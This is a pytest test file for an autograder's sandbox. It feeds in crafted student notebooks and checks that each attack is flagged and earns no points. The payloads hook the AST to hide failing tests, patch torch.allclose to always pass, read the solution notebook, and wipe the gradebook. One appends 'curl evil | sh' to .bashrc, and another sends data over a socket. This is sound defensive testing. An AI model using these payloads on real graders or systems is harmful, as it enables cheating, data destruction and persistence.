"""An adversarial class: one crafted submission per attack of issue 14's table, graded in ONE run of
``python -m shiftlab_instructor autograde`` (what ``make autograde`` runs) between two honest students.

For each attack: no undeserved points, the flag kind and its reason. For the run: honest students at full
marks without flags, exit status 0, and no harm outside the sandbox: a canary file, a fake instructor
home, the honest students' submissions and gradebook rows unchanged, no process left behind, and a
listener on 127.0.0.1 that receives nothing.

Attack notebooks keep only the cells with grading metadata (lesson cells are the student's to delete),
so each runs in seconds; the two looping ones cost the time limit each. Answers are wrong (stubs that
return None) unless the attack needs them, so any point they earn is undeserved.
"""

from __future__ import annotations

import csv
import hashlib
import os
import subprocess
import sys
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from helpers import REPO_ROOT
from nbgrader.api import Gradebook

from shiftlab_instructor.course import Course
from shiftlab_instructor.demo import fill_in, scratch_course
from shiftlab_instructor.record import BANNER_TITLE

pytestmark = pytest.mark.slow

ASSIGNMENT = "01_flip_and_kernels"
LIMITS = ["--wall-seconds", "60", "--memory-mb", "2048", "--processes", "96", "--workers", "2"]
HONEST = ("alice", "zoe")  # graded first and last
WRONG = "return None  # wrong"
FIRST, OTHERS = "@first", "@others"  # answers keys: the first code exercise's cell, every other one


@dataclass(frozen=True)
class Attack:
    """A crafted submission: its answer cells (grade id, FIRST or OTHERS -> source; the rest return None),
    extra files, or raw bytes instead of a notebook; and what grading must give: points (None: what the
    first exercise's tests are worth), a flag kind and words of its reason."""

    points: float | None
    kind: str
    reason: str
    answers: dict[str, str] = field(default_factory=dict)
    files: dict[str, str] = field(default_factory=dict)
    raw: bytes | None = None
    edit: str | None = None  # name of a function below that edits the notebook's cells


AST_TRANSFORMER = '''import ast

class Forgive(ast.NodeTransformer):  # every statement of every later cell in try/except: pass
    def visit_Module(self, node):
        node.body = [ast.Try(body=[statement], handlers=[ast.ExceptHandler(body=[ast.Pass()])], orelse=[], finalbody=[])
                     for statement in node.body]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(Forgive())
'''
PATCHED_ALLCLOSE = '''t = torch  # an alias the static scan cannot follow: the kernel's probe must see it
for name in ("allclose", "equal"):
    setattr(t, name, lambda *args, **kwargs: True)
'''
READS_SOURCE = '''import json
for path in ("../../../source/01_flip_and_kernels/01_flip_and_kernels.ipynb", "@SOURCE@"):
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]))
    except OSError as error:
        print("source:", error)
'''
VANDAL = '''import os, sqlite3, subprocess
for database in ("../../../gradebook.db", "@GRADEBOOK@"):
    try:
        connection = sqlite3.connect(database)
        connection.execute("UPDATE grade SET manual_score = 0")
        connection.execute("DELETE FROM student WHERE id != 'vandal'")
        connection.commit()
    except Exception as error:
        print("gradebook:", error)
for path, text in [("@CLASSMATE@", "{}"), ("@CANARY@", "vandalised"), ("@FAKE_HOME@/.bashrc", "curl evil | sh"),
                   (os.path.expanduser("~/.bashrc"), "curl evil | sh")]:
    try:
        with open(path, "a" if path.endswith(".bashrc") else "w") as file:
            file.write(text)
    except OSError as error:
        print("write:", error)
subprocess.Popen(["/bin/sh", "-c", "sleep 600 # @MARKER@"], start_new_session=True)
'''
NETWORK = '''import socket
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as connection:
        connection.sendall(b"the hidden tests")
except OSError as error:
    print("network:", error)
'''
PACKAGE_ANSWERS = {
    "correlate1d": "def correlate1d(signal, kernel):\n    return sl.correlate1d(signal, kernel)",
    "flip_network": "def flip_network(model):\n    return sl.flip_kernels(model)",
    "flip_error": "EXACT = 1e-5\n\ndef flip_error(model, images):\n    return sl.flip_equivariance_error(model, images)",
}

ATTACKS = {
    "ast_transformer": Attack(0, "tamper", "AST transformer added: Forgive", {FIRST: AST_TRANSFORMER}),
    "patched_allclose": Attack(0, "tamper", "torch.allclose replaced (integrity probe)", {FIRST: PATCHED_ALLCLOSE}),
    "reads_source": Attack(0, "sandbox", "names files outside its folder ('../../../source",
                           {FIRST: READS_SOURCE, OTHERS: "pass"}),
    "vandal": Attack(0, "sandbox", "opens a database (sqlite3)", {FIRST: VANDAL}),
    "extra_module": Attack(0, "sandbox", "not given to the kernel: shiftlab.py", {FIRST: "import os\nprint(sorted(os.listdir('.')))"},
                           files={"shiftlab.py": "correlate1d = flip_network = flip_error = flip_aligned = None\n"}),
    "network": Attack(0, "sandbox", "uses the network (socket)", {FIRST: NETWORK}),
    "infinite_loop": Attack(0, "limit", "ran past its time limit of 60 s", {FIRST: "while True:\n    pass"}),
    "sigint_loop": Attack(0, "limit", "ran past its time limit of 60 s", {
        FIRST: "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(0.1)"}),
    "os_exit": Attack(0, "crash", "crashed: its kernel died (exit code 1)", {FIRST: "import os\nos._exit(1)"}),
    "malformed": Attack(0, "missing", "01_flip_and_kernels.ipynb is not a valid notebook", raw=b'{"cells": [ not json'),
    "no_notebook": Attack(0, "missing", "no notebook 01_flip_and_kernels.ipynb", raw=b"", files={"answers.txt": "see attached"}),
    "metadata_edits": Attack(None, "metadata", "was deleted or lost its metadata: restored from the release", edit="edit_metadata"),
    "memory_bomb": Attack(0, "limit", "ran out of memory (limit 2048 MB)",
                          {FIRST: "blocks = []\nwhile True:\n    blocks.append(bytearray(2**27))"}),
}


def nbgrader_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def exercises(notebook: nbformat.NotebookNode) -> list[tuple[str, list[str]]]:
    """(code answer cell's id, ids of the test cells after it) for every code exercise, in order."""
    groups: list[tuple[str, list[str]]] = []
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("solution"):
            groups.append((meta["grade_id"], []))
        elif cell.cell_type == "code" and meta.get("grade") and groups:
            groups[-1][1].append(meta["grade_id"])
    return groups


def first_exercise_points(notebook: nbformat.NotebookNode) -> float:
    tests = set(exercises(notebook)[0][1])
    return sum(c.metadata["nbgrader"]["points"] for c in notebook.cells if nbgrader_id(c) in tests)


def edit_metadata(notebook: nbformat.NotebookNode, source: nbformat.NotebookNode) -> None:
    """The first exercise answered right (its tests' points deserved), then every metadata trick: the second
    exercise's test cells deleted, the third's stripped of their metadata, the first's and the last's
    tagged skip-execution and made worth 100, the setup cell edited, a forged bonus cell."""
    groups = exercises(notebook)
    deleted, stripped, retagged = set(groups[1][1]), set(groups[2][1]), {*groups[0][1], *groups[-1][1]}
    notebook.cells = [c for c in fill_in(notebook, source, how_many=1).cells if nbgrader_id(c) not in deleted]
    for cell in notebook.cells:
        grade_id = nbgrader_id(cell)
        if grade_id in stripped:
            cell.metadata = {}
        elif grade_id in retagged:
            cell.metadata["tags"] = ["skip-execution"]
            cell.metadata["nbgrader"]["points"] = 100.0
        elif grade_id == "setup":
            cell.source += "\nprint('edited')"
    bonus = {"grade": True, "grade_id": "bonus", "locked": True, "points": 50.0, "schema_version": 3, "solution": False}
    notebook.cells.append(nbformat.v4.new_code_cell("print('bonus')", metadata={"nbgrader": bonus}))


def lean(release: nbformat.NotebookNode, answers: dict[str, str]) -> nbformat.NotebookNode:
    """The release without lesson cells; answer cells from ``answers`` (by id, FIRST, OTHERS), else stubs
    that return None."""
    notebook = nbformat.from_dict(release)
    notebook.cells = [cell for cell in notebook.cells if nbgrader_id(cell)]
    first = exercises(notebook)[0][0]
    for cell in notebook.cells:
        if cell.cell_type == "code" and cell.metadata["nbgrader"].get("solution"):
            grade_id = nbgrader_id(cell)
            by_place = answers.get(FIRST) if grade_id == first else answers.get(OTHERS)
            stub = cell.source.replace("raise NotImplementedError()", WRONG)
            cell.source = answers.get(grade_id, by_place if by_place is not None else stub)
    return notebook


@dataclass
class GradedClass:
    """What one autograde run left behind, and what the tests compare it with."""

    course: Course
    exit_code: int
    output: str
    seconds: float
    canary: Path
    fake_home: Path
    marker: str
    honest_digests: dict[str, str]
    runtime_processes_before: set[int]
    first_answer: str
    first_exercise_points: float
    points: dict[str, float] = field(default_factory=dict)
    max_points: dict[str, float] = field(default_factory=dict)
    flagged: dict[str, bool] = field(default_factory=dict)
    comments: dict[str, str] = field(default_factory=dict)
    roster: list[str] = field(default_factory=list)

    def autograded(self, student: str) -> str:
        return (self.course.autograded_dir(student, ASSIGNMENT) / f"{ASSIGNMENT}.ipynb").read_text()

    def printed(self, student: str, grade_id: str) -> str:
        """What the cell ``grade_id`` of the student's autograded notebook printed."""
        notebook = nbformat.reads(self.autograded(student), as_version=4)
        cell = next(c for c in notebook.cells if nbgrader_id(c) == grade_id)
        return "".join(o.get("text", "") for o in cell.outputs if o.output_type == "stream")

    def report(self, student: str) -> dict[str, str]:
        """The student's row of the CSV report: student, points, max_points, flags, reasons, seconds."""
        with open(self.course.root / "reports" / f"autograde-{ASSIGNMENT}.csv", newline="") as file:
            return next(row for row in csv.DictReader(file) if row["student"] == student)


def pids_running(words: str) -> set[int]:
    """PIDs of processes whose command line contains ``words``."""
    found = set()
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if words in cmdline.read_bytes().replace(b"\0", b" ").decode(errors="replace"):
                found.add(int(cmdline.parent.name))
        except OSError:
            continue
    return found


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, listener) -> GradedClass:
    root = tmp_path_factory.mktemp("adversarial")
    students = [*HONEST, *ATTACKS, "package_answers", "absent"]
    course = scratch_course(Course(REPO_ROOT / "course"), ASSIGNMENT, root / "course", students)
    release = nbformat.read(course.release_dir(ASSIGNMENT) / f"{ASSIGNMENT}.ipynb", as_version=4)
    source = nbformat.read(course.source_notebook(ASSIGNMENT), as_version=4)
    canary, fake_home, marker = root / "canary.txt", root / "home", f"shiftlab-canary-{uuid.uuid4().hex}"
    canary.write_text("untouched")
    fake_home.mkdir()
    (fake_home / ".bashrc").write_text("# the instructor's\n")
    places = {"@SOURCE@": str(course.source_notebook(ASSIGNMENT)), "@GRADEBOOK@": str(course.root / "gradebook.db"),
              "@CLASSMATE@": str(course.submission_dir(HONEST[0], ASSIGNMENT) / f"{ASSIGNMENT}.ipynb"),
              "@CANARY@": str(canary), "@FAKE_HOME@": str(fake_home), "@MARKER@": marker, "@PORT@": str(listener.port)}

    def write(student: str, notebook_bytes: bytes | None, files: dict[str, str]) -> Path:
        folder = course.submission_dir(student, ASSIGNMENT)
        folder.mkdir(parents=True)
        if notebook_bytes:
            (folder / f"{ASSIGNMENT}.ipynb").write_bytes(notebook_bytes)
        for name, text in files.items():
            (folder / name).write_text(text)
        return folder / f"{ASSIGNMENT}.ipynb"

    honest = lean(fill_in(release, source), {})
    stamp = {"timestamp.txt": "2025-01-15 10:00:00.000000 UTC"}  # as nbgrader collect writes it: no flag
    digests = {student: digest(write(student, nbformat.writes(honest).encode(), stamp)) for student in HONEST}
    for student, attack in {**ATTACKS, "package_answers": Attack(0, "", "", PACKAGE_ANSWERS)}.items():
        if attack.raw is not None:
            write(student, attack.raw, attack.files)
            continue
        answers = {grade_id: _fill(source_text, places) for grade_id, source_text in attack.answers.items()}
        notebook = lean(release, answers)
        if attack.edit:
            globals()[attack.edit](notebook, source)
        write(student, nbformat.writes(notebook).encode(), attack.files)

    runtime_processes = pids_running("shiftlab_instructor.runtime.")  # fork servers, holders and their kernels
    start = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "shiftlab_instructor", "autograde", ASSIGNMENT, "--course", str(course.root),
                           "--quick", *LIMITS], cwd=REPO_ROOT, env={**os.environ, "HOME": str(fake_home)},
                          capture_output=True, text=True, timeout=1200)
    result = GradedClass(course, done.returncode, done.stdout + done.stderr, time.monotonic() - start, canary, fake_home,
                         marker, digests, runtime_processes, exercises(release)[0][0], first_exercise_points(release))
    print(f"\nadversarial class: {len(students)} students graded in {result.seconds:.0f} s\n{result.output}")
    with Gradebook(course.gradebook_url, course.course_id) as gradebook:
        result.roster = sorted(s.id for s in gradebook.students)
        for student in students:
            submitted = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student)
            auto = [g for g in submitted.grades if g.cell.cell_type == "code"]
            result.points[student] = sum(g.auto_score or 0 for g in auto)
            result.max_points[student] = sum(g.max_score for g in auto)
            result.flagged[student] = submitted.flagged
            result.comments[student] = " ".join(c.auto_comment or "" for c in submitted.comments)
    return result


def _fill(text: str, places: dict[str, str]) -> str:
    for placeholder, value in places.items():
        text = text.replace(placeholder, value)
    return text


def test_the_run_exits_0_and_reports_every_student(graded):
    assert graded.exit_code == 0, graded.output
    for student in [*HONEST, *ATTACKS, "package_answers", "absent"]:
        assert f"\n{student} " in graded.output, f"{student} is missing from the table:\n{graded.output}"


@pytest.mark.parametrize("student", HONEST)
def test_honest_students_get_full_marks_and_no_flag(graded, student):
    assert graded.points[student] == graded.max_points[student] > 0
    assert not graded.flagged[student] and BANNER_TITLE not in graded.autograded(student)
    assert graded.report(student)["flags"] == graded.report(student)["reasons"] == ""


@pytest.mark.parametrize("student", ATTACKS)
def test_an_attack_earns_nothing_undeserved_and_is_flagged_with_its_reason(graded, student):
    attack, row = ATTACKS[student], graded.report(student)
    deserved = graded.first_exercise_points if attack.points is None else attack.points
    assert graded.points[student] == deserved, row
    assert attack.kind in row["flags"].split(", ") and attack.reason in row["reasons"], row
    assert graded.flagged[student], "flagged in the gradebook (formgrader shows and filters it)"
    assert attack.reason.split(" (")[0] in graded.comments[student], "the reason is a comment on the first answer cell"


def test_a_missing_submission_scores_zero(graded):
    assert graded.points["absent"] == 0 and graded.report("absent")["reasons"] == "no submission"


def test_answers_calling_the_package_earn_nothing(graded):
    """Issue 14 item 3: the package ships no graded answer, or hidden tests switch its copy off."""
    assert graded.points["package_answers"] == 0, f"{graded.points['package_answers']} points for calling sl.*"
    notebook = graded.autograded("package_answers")  # the package no longer has them, or they are switched off
    assert "DisabledDuringGrading" in notebook or "module 'shiftlab' has no attribute" in notebook


def test_tampered_tests_say_why_they_scored_nothing(graded):
    notebook = graded.autograded("ast_transformer")
    assert "TamperingDetected" in notebook and BANNER_TITLE in notebook
    assert "NotRun" in graded.autograded("infinite_loop")


def test_nothing_outside_the_sandbox_changed(graded):
    assert graded.canary.read_text() == "untouched"
    assert (graded.fake_home / ".bashrc").read_text() == "# the instructor's\n"
    written = [p for p in graded.fake_home.rglob("*") if p.is_file() and b"evil" in p.read_bytes()]
    assert written == [], "the vandal wrote into the instructor's home"  # nbgrader and jupyter keep their own files there
    for student, expected in graded.honest_digests.items():
        assert digest(graded.course.submission_dir(student, ASSIGNMENT) / f"{ASSIGNMENT}.ipynb") == expected
    assert graded.roster == sorted([*HONEST, *ATTACKS, "package_answers", "absent"]), "students added or deleted"


def test_the_extra_file_never_reached_the_kernel(graded):
    listing = graded.printed("extra_module", graded.first_answer)  # the kernel's own folder: dot folders of IPython at most
    assert listing.startswith("[") and "shiftlab.py" not in listing, listing


def test_no_process_is_left_behind(graded):
    assert pids_running(graded.marker) == set(), "the vandal's background process survived grading"
    assert pids_running("shiftlab_instructor.runtime.") <= graded.runtime_processes_before, "a sandbox or fork server outlived grading"


def test_the_listener_on_localhost_received_nothing(listener, graded):
    assert listener.received == []


def test_feedback_shows_failures_but_not_the_hidden_tests(graded):
    honest = (graded.course.feedback_dir(HONEST[0], ASSIGNMENT) / f"{ASSIGNMENT}.html").read_text()
    failed = (graded.course.feedback_dir("package_answers", ASSIGNMENT) / f"{ASSIGNMENT}.html").read_text()
    for feedback in (honest, failed):
        assert "windows_symmetric" not in feedback and "HIDDEN TESTS" not in feedback  # a helper of 01's hidden tests
    assert "a hidden test failed here" in failed and "TamperingDetected" not in honest
